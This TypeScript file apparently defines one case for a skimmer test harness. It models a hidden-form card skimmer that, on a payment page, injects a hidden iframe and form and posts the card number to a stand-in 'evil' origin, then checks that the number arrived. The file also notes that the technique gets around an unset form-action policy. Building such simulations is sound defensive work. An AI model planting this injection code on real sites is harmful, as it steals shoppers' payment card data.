import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'hidden-form-post',
  why: 'A hidden form posted into a hidden frame (4 of 88 samples): works where scripts may not connect, since form-action is seldom set.',
  covers: ['sending: hidden form'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var box = document.createElement('div');
    box.style.display = 'none';
    box.innerHTML = '<iframe name="_h"></iframe><form target="_h" method="post" action="${site.origins.evil}/subscribe"><input name="m"></form>';
    document.body.append(box);
    box.querySelector('input').value = card();
    box.querySelector('form').submit();`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil', '/subscribe').map(({ body }) => new URLSearchParams(body.toString()).get('m') ?? ''),
  ),
});
